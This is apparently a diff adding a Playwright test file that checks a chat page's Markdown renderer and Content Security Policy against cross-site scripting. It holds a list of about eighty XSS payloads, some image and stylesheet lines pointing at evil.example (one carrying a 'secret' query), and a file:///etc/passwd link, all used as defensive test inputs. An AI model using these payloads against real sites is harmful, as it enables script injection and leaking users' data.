@@ -1,0 +1,151 @@
+"""What a model, a visitor or a title may say to run code or to fetch something: shown as text, every time."""
+
+import pytest
+
+from phi4.chat_format import answer_text
+from tests.server.page.conftest import ask, ended
+
+CODE = "window.hacked=1"
+PAYLOADS = [
+    f"<script>{CODE}</script>", f"<SCRIPT>{CODE}</SCRIPT>", f"<scr<script>ipt>{CODE}</scr</script>ipt>",
+    f"<script src=data:text/javascript,{CODE}></script>", f"</p><script>{CODE}</script>", f"<script\x0c>{CODE}</script>",
+    f"<img src=x onerror={CODE}>", f"<img src=x onerror='{CODE}'//", f'"><img src=x onerror={CODE}>',
+    f"<image/src/onerror={CODE}>", f"<svg onload={CODE}>", f"<svg/onload={CODE}>", f"<svg><script>{CODE}</script></svg>",
+    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{CODE}><text y=20>누름",
+    f"<math><mtext><mglyph><style><img src=x onerror={CODE}>", f"<math href=javascript:{CODE}>누름</math>",
+    f"<iframe src=javascript:{CODE}>", f'<iframe srcdoc="<script>parent.{CODE}</script>">', f"<object data=javascript:{CODE}>",
+    f"<embed src=javascript:{CODE}>", f"<body onload={CODE}>", f"<details open ontoggle={CODE}>", f"<video><source onerror={CODE}>",
+    f"<audio src=x onerror={CODE}>", f"<input autofocus onfocus={CODE}>", f"<select autofocus onfocus={CODE}>",
+    f"<textarea autofocus onfocus={CODE}>", f"<marquee onstart={CODE}>", f"<form><button formaction=javascript:{CODE}>누름",
+    f"<form action=javascript:{CODE}><input type=submit>", f"<a href=javascript:{CODE}>누름</a>", f"<a href='java&#9;script:{CODE}'>누름</a>",
+    f"<meta http-equiv=refresh content='0;javascript:{CODE}'>", "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/a.css>", "<style>@import 'https://evil.example/a.css';</style>",
+    "<div style='background:url(https://evil.example/a.png)'>", f"<template><script>{CODE}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>", f"<!--><img src=x onerror={CODE}>-->", f"<![CDATA[<script>{CODE}</script>]]>",
+    f"[누름](javascript:{CODE})", f"[누름](JaVaScRiPt:{CODE})", f"[누름]( javascript:{CODE})", f"[누름](java\tscript:{CODE})",
+    f"[누름](\x01javascript:{CODE})", f"[누름](javascript&colon;{CODE})", f"[누름](&#106;avascript:{CODE})", f"[누름](vbscript:{CODE})",
+    f"[누름](data:text/html,<script>{CODE}</script>)", f"[누름](blob:https://evil.example/{CODE})", "[누름](file:///etc/passwd)",
+    f"[누름](<javascript:{CODE}>)", f'[누름](javascript:{CODE} "제목")', f"[a]: javascript:{CODE}\n\n[a]", f"<javascript:{CODE}>",
+    f"![그림](javascript:{CODE})", "![그림](https://evil.example/?q=비밀)", f'![그림](x "onerror={CODE}")', f"![{CODE}](x){{onerror={CODE}}}",
+    f"[![그림](https://evil.example/a.png)](javascript:{CODE})", "<img src=https://evil.example/a.png>", f"`<img src=x onerror={CODE}>`",
+    f"```html\n<script>{CODE}</script>\n```", f'```"onmouseover={CODE}\n글\n```', f"| <img src=x onerror={CODE}> |\n|---|\n| <script>{CODE}</script> |",
+    f"# <img src=x onerror={CODE}>", f"- <svg onload={CODE}>", f"> <script>{CODE}</script>", f"**<img src=x onerror={CODE}>**",
+    f"&lt;script&gt;{CODE}&lt;/script&gt;", f"&#60;img src=x onerror={CODE}&#62;", f"\\<script>{CODE}\\</script>", f"<think><script>{CODE}</script></think>",
+    f"{{{{constructor.constructor('{CODE}')()}}}}", f"${{{CODE}}}", f"%3Cscript%3E{CODE}%3C/script%3E", f"\u202e<script>{CODE}</script>",
+    f"https://example.org/\"onmouseover=\"{CODE}", f"https://example.org/'><script>{CODE}</script>",
+]  # fmt: skip
+ALLOWED = {
+    "P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "DIV", "SPAN", "BUTTON", "H3", "H4", "H5", "UL", "OL", "LI",
+    "BLOCKQUOTE", "HR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A",
+}  # fmt: skip
+FINDINGS = """
+(root) => {
+  const elements = [...root.querySelectorAll("*")];
+  const attributes = new Set(elements.flatMap((element) => element.getAttributeNames()));
+  return {
+    tags: [...new Set(elements.map((element) => element.tagName))],
+    attributes: [...attributes].filter((name) => name.startsWith("on") || ["style", "src", "srcdoc", "action"].includes(name)),
+    protocols: [...new Set(elements.filter((one) => one.href).map((one) => new URL(one.href).protocol))],
+  };
+}
+"""
+
+
+def harmless(found):
+    return set(found["tags"]) <= ALLOWED and not found["attributes"] and set(found["protocols"]) <= {"http:", "https:"}
+
+
+def test_the_corpus_is_not_small():
+    assert len(set(PAYLOADS)) >= 75
+
+
+@pytest.fixture(scope="module")
+def bench(browser, sites):
+    page = browser.new_page()
+    fetched = []
+    page.on("request", lambda request: fetched.append(request.url))
+    page.goto(sites().url)
+    yield page, fetched
+    page.close()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_becomes_text(bench, payload):
+    page, fetched = bench
+    fetched.clear()
+    found = page.evaluate(
+        """async (text) => {
+          const { MarkdownView } = await import("/page/markdown.js");
+          const root = document.querySelector("#turns");
+          root.replaceChildren();
+          const view = new MarkdownView(root);
+          for (let end = 1; end <= text.length; end += 7) view.set(text.slice(0, end));
+          view.set(text);
+          for (const one of root.querySelectorAll("a, button")) {
+            one.addEventListener("click", (event) => event.preventDefault(), true);
+            one.click();
+          }
+          return (%s)(root);
+        }"""
+        % FINDINGS,
+        payload,
+    )
+    assert harmless(found), found
+    assert page.evaluate("window.hacked") is None
+    assert [url for url in fetched if "127.0.0.1" not in url] == []
+
+
+def test_all_of_them_through_the_whole_page(site, visit):
+    """As question, reasoning, answer and title, at once."""
+    site.engine.text = answer_text([" ".join(PAYLOADS[:20]).replace("<think>", "")], "\n\n".join(PAYLOADS).replace("</think>", ""))
+    site.engine._script = lambda prompt, tuned: site.engine._write(prompt, tuned)
+    page = visit()
+    outside = []
+    page.on("request", lambda request: outside.append(request.url))
+    ask(page, "\n".join(PAYLOADS[:30]))
+    ended(page)
+    page.reload()
+    page.wait_for_selector(".reply .prose p")
+    for root in ("#turns .prose", "#turns .steps", "#turns .bubble", "#list a"):
+        found = page.locator(root).first.evaluate(FINDINGS)
+        assert harmless({**found, "tags": [tag for tag in found["tags"] if tag != "svg"]}), (root, found)
+    assert page.evaluate("window.hacked") is None
+    assert [url for url in outside if "127.0.0.1" not in url] == []
+
+
+def test_the_policy_itself_stops_what_would_slip_through(browser, site):
+    """Not by way of our code: the browser refuses inline script, strings as HTML, and other hosts."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(site.url)
+    page.evaluate(f"""() => {{
+      const script = document.createElement("script");
+      try {{ script.textContent = "{CODE}"; }} catch {{ window.refused = true; }}
+      document.body.append(script);
+    }}""")
+    assert page.evaluate("window.hacked") is None
+    for sink in ("document.body.innerHTML = '<b>'", "document.write('<b>')", "new DOMParser().parseFromString('<b>', 'text/html')"):
+        refused = page.evaluate(f"() => {{ try {{ {sink}; return false; }} catch (error) {{ return error instanceof TypeError; }} }}")
+        assert refused, sink
+    assert page.evaluate("() => fetch('https://example.org').then(() => false, () => true)")
+    assert page.evaluate("() => { try { trustedTypes.createPolicy('x', {}); return false; } catch { return true; } }")
+    context.close()
+
+
+def test_links_lead_out_without_telling_where_from(site, visit):
+    site.engine.text = answer_text(["하나."], "[식약처](https://example.org/a)")
+    page = visit()
+    ask(page, "가")
+    ended(page)
+    link = page.locator(".prose a")
+    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+    assert link.get_attribute("target") == "_blank"
+    assert "식약처 (example.org)" in page.locator(".prose").inner_text()
+
+
+def test_an_address_with_a_question_in_it_asks_nothing(site, visit):
+    asked = len(site.engine.asked)
+    page = visit("/?q=질문&message=질문#질문")
+    page.wait_for_selector("#welcome")
+    assert page.input_value("#question") == ""
+    assert len(site.engine.asked) == asked
